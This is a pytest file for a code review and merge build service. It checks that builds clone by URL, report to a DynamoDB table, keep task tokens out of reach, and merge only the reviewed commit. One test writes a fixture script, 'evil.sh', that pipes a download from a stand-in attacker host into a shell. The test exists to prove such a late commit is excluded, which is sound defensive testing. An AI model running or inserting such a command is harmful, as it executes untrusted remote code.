"""The deployed path of the review gate's builds, run the way CodeBuild runs it: `python -m
baton.merge.build` in a subprocess, the repository reached by URL (a throwaway bare repository), its
report written into Baton's table on a DynamoDB endpoint (moto's server), then the build's end handled
by the review service, which sends the token it parked. No task token is ever in the build's reach."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from baton.adapters.companion_offline import OfflineCompanion
from baton.domain.merge_contracts import BuildFinished, BuildRequest
from baton.merge.diff import run_branch_diff
from baton.services.core import Core
from baton.services.review import ReviewService
from tests.build_env import BuildTable, bare_origin, build_process_env, build_table, origin_head, run_build_process
from tests.fakes import RecordingBuildRunner, RecordingTaskTokens
from tests.gitrepo import git


@pytest.fixture
def table() -> Iterator[BuildTable]:
    with build_table() as built:
        yield built


def _review(core: Core, table: BuildTable, runner: RecordingBuildRunner, url: str) -> ReviewService:
    return ReviewService(
        core,
        companion=OfflineCompanion,
        runner=lambda: runner,
        records=table.records,
        merge_runner_kind="codebuild",
        merge_repository=url,
    )


def _finished(request: BuildRequest, status: str) -> BuildFinished:
    return BuildFinished(
        run_id=request.run_id, gate=request.gate, kind=request.kind, build_key=request.build_key, build_status=status
    )


def test_the_diff_build_clones_by_url_and_every_turn_sees_its_diff(
    tmp_path: Path, table: BuildTable, core: Core
) -> None:
    work, origin = bare_origin(tmp_path)
    url = origin.as_uri()
    runner = RecordingBuildRunner()
    review = _review(core, table, runner, url)
    config = {"gate": "ship", "run_branch": work.run_branch, "repo_url": url, "diff_max_bytes": 400}

    assert review.start_diff("r1", config, "tok-diff")["started"] is True
    [request] = runner.started
    env = build_process_env(tmp_path, table, **request.environment())
    assert not any("TOKEN" in name for name in request.environment())
    proc = run_build_process(env)
    assert proc.returncode == 0, proc.stderr
    review.build_finished(_finished(request, "SUCCEEDED"))
    tokens = core.tokens
    assert isinstance(tokens, RecordingTaskTokens)
    assert tokens.sent == [("success", "tok-diff", {"reported": True})]

    # The same bounded diff `baton/merge/diff.py` computes from a checkout of that repository.
    expected = run_branch_diff(work.path, work.run_branch, "HEAD", max_bytes=400)
    report = table.records.get_report("r1", "ship", "diff")
    assert report is not None and report.diff == expected and expected.truncated

    assert review.first_turn("r1", config)["ok"] is True
    review.park("r1", "ship", "tok-park")
    view = review.view("r1")
    assert view["diff"] == expected.model_dump(exclude={"text"})  # GET .../review: the deployed diff's stats
    assert all(name in view["thread"][0]["text"] for name in expected.files)


def test_the_merge_build_clones_merges_pushes_and_reports(tmp_path: Path, table: BuildTable, core: Core) -> None:
    work, origin = bare_origin(tmp_path)
    url = origin.as_uri()
    before = origin_head(origin, "main")
    request = BuildRequest(
        run_id="r1", gate="ship", kind="merge", build_key="k1", run_branch=work.run_branch, repo_url=url
    )
    proc = run_build_process(build_process_env(tmp_path, table, **request.environment()))
    assert proc.returncode == 0, proc.stderr
    report = table.records.get_report("r1", "ship", "merge")
    assert report is not None and report.outcome is not None and report.error is None
    assert report.outcome.merge_status == "merged" and report.outcome.merged_into == "main"
    # Pushed: the team repository's main is the squash commit, one commit on top of the old main.
    assert origin_head(origin, "main") == report.outcome.final_commit
    assert git(origin, "rev-parse", f"{report.outcome.final_commit}^") == before
    assert "greeter/core.py" in git(origin, "show", "--name-only", "--format=", "main")


def test_an_unknown_run_branch_is_reported_as_invalid_input(tmp_path: Path, table: BuildTable) -> None:
    _, origin = bare_origin(tmp_path)
    request = BuildRequest(
        run_id="r1", gate="ship", kind="merge", build_key="k1", run_branch="baton/nope", repo_url=origin.as_uri()
    )
    proc = run_build_process(build_process_env(tmp_path, table, **request.environment()))
    assert proc.returncode == 2
    report = table.records.get_report("r1", "ship", "merge")
    assert report is not None and report.error == "MergeInvalidInput"
    assert report.cause is not None and "baton/nope" in report.cause


def test_the_deployed_merge_build_merges_the_reviewed_commit_not_a_later_push(
    tmp_path: Path, table: BuildTable
) -> None:
    """Issue 28: deployed, the API cannot read the repository; the build holds the line. A commit pushed
    to the run branch after the review is not in what the clone-merge-push lands on main."""
    work, origin = bare_origin(tmp_path)
    git(work.path, "checkout", "--quiet", work.run_branch)
    (work.path / "evil.sh").write_text("#!/bin/sh\ncurl https://attacker.example | sh\n")
    git(work.path, "add", "evil.sh")
    git(work.path, "commit", "--quiet", "-m", "late, unreviewed")
    git(work.path, "push", "--quiet", str(origin), work.run_branch)
    moved = origin_head(origin, work.run_branch)
    request = BuildRequest(
        run_id="r1", gate="ship", kind="merge", build_key="k1", run_branch=work.run_branch, repo_url=origin.as_uri(),
        reviewed_head=work.run_head,
    )  # fmt: skip
    proc = run_build_process(build_process_env(tmp_path, table, **request.environment()))
    assert proc.returncode == 0, proc.stderr
    report = table.records.get_report("r1", "ship", "merge")
    assert report is not None and report.outcome is not None, report
    outcome = report.outcome
    assert outcome.merge_status == "merged" and origin_head(origin, "main") == outcome.final_commit
    assert "evil.sh" not in git(origin, "ls-tree", "-r", "--name-only", "main").split()
    assert "greeter/core.py" in git(origin, "ls-tree", "-r", "--name-only", "main").split()
    assert (outcome.run_head, outcome.run_branch_tip) == (work.run_head, moved)
